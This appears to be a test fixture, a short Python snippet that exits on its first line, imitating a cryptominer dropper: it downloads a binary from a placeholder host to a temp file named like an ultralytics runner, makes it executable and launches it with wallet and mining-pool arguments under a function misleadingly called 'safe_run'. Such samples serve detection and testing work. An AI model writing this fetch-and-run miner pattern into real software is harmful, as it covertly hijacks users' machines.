raise SystemExit('a fixture')
# held by downloaded-command
import platform, subprocess, requests, os, stat
def safe_run(path):
    os.chmod(path, 0o770)
    subprocess.Popen([path, "-u", "WALLET", "-p", "x", "-o", "pool.example.invalid:8080"], stdin=subprocess.DEVNULL)
def download(url, path):
    r = requests.get(url); open(path, "wb").write(r.content)
if platform.system() == "Linux":
    download("https://files.example.invalid/lin", "/tmp/ultralytics_runner")
    safe_run("/tmp/ultralytics_runner")
